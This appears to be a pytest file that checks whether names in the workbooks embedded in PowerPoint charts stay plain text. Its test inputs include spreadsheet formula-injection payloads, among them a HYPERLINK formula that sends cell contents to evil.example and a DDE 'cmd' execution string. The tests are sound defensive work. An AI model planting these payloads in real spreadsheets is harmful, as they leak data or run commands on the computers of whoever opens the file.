"""Charts on slides: the workbook within holds every name as text, whatever it begins with, and the numbers as numbers."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from io import BytesIO
from zipfile import ZipFile

import pytest
from lxml import etree
from pptx import Presentation
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Pt

from comptoir.model.base import Text
from comptoir.slides.charts import chart_data
from comptoir.slides.deck import ChartData
from tests.content.measured import results as base_results
from tests.content.samples import base_catalogue
from tests.slides.decks import changed, written

S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
LIVE = (
    '=HYPERLINK("https://evil.example/"&A1,"Wi-Fi")',
    "{=SUM(1+1)}",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "https://evil.example/",
    "mailto:someone@evil.example",
    "internal:Sheet1!A1",
    "12",
    "_x003D_1",
)


def workbooks(presentation: bytes) -> list[bytes]:
    """The workbooks within a presentation."""
    with ZipFile(BytesIO(presentation)) as archive:
        return [archive.read(name) for name in archive.namelist() if name.endswith(".xlsx")]


def cells_of(workbook: bytes) -> dict[str, str | float]:
    """The cells of the only sheet by reference: strings as they are written, numbers as numbers."""
    with ZipFile(BytesIO(workbook)) as archive:
        assert [name for name in archive.namelist() if "worksheets/" in name] == ["xl/worksheets/sheet1.xml"]
        sheet = etree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
        strings = etree.fromstring(archive.read("xl/sharedStrings.xml"))
    assert list(sheet.iter(f"{S}f", f"{S}hyperlink")) == []
    words = ["".join(item.itertext()) for item in strings.iter(f"{S}si")]
    found: dict[str, str | float] = {}
    for cell in sheet.iter(f"{S}c"):
        value = cell.findtext(f"{S}v")
        if value is not None:
            found[cell.get("r", "")] = words[int(value)] if cell.get("t") == "s" else float(value)
    return found


def workbook_of(data: ChartData) -> bytes:
    """The workbook as it comes out of a presentation."""
    presentation = Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[6])
    slide.shapes.add_chart(XL_CHART_TYPE.LINE_MARKERS, Pt(10), Pt(10), Pt(300), Pt(200), chart_data(data))  # type: ignore[no-untyped-call]
    content = BytesIO()
    presentation.save(content)
    (workbook,) = workbooks(content.getvalue())
    return workbook


@pytest.mark.parametrize("name", LIVE)
def test_names_of_categories_and_of_series_stay_text(name: str) -> None:
    values = (Decimal("1.5"), None)
    data = ChartData("line", (name, "T2"), ((name, values), ("aim", (None, Decimal(-2)))), "0.0", "", 10)
    shown = name.replace("_x003D_", "_x005F_x003D_")  # how the format writes what looks like its own escapes
    assert cells_of(workbook_of(data)) == {
        "A2": shown,
        "A3": "T2",
        "B1": shown,
        "C1": "aim",
        "B2": 1.5,
        "C3": -2.0,
    }


def test_a_service_named_like_a_formula_stays_text_in_every_workbook() -> None:
    catalogue = base_catalogue()
    services = {name: changed(service, name=LIVE[0]) for name, service in catalogue.services.items()}
    measured = base_results()
    indicators = {
        name: indicator.model_copy(update={"name": Text(LIVE[0])})
        for name, indicator in measured.measurements.indicators.items()
    }
    named = replace(measured, measurements=replace(measured.measurements, indicators=indicators))
    books = workbooks(written(replace(catalogue, services=services), results=named))
    assert books
    texts = [value for book in books for value in cells_of(book).values() if isinstance(value, str)]
    assert any(text.startswith("=HYPERLINK") for text in texts)
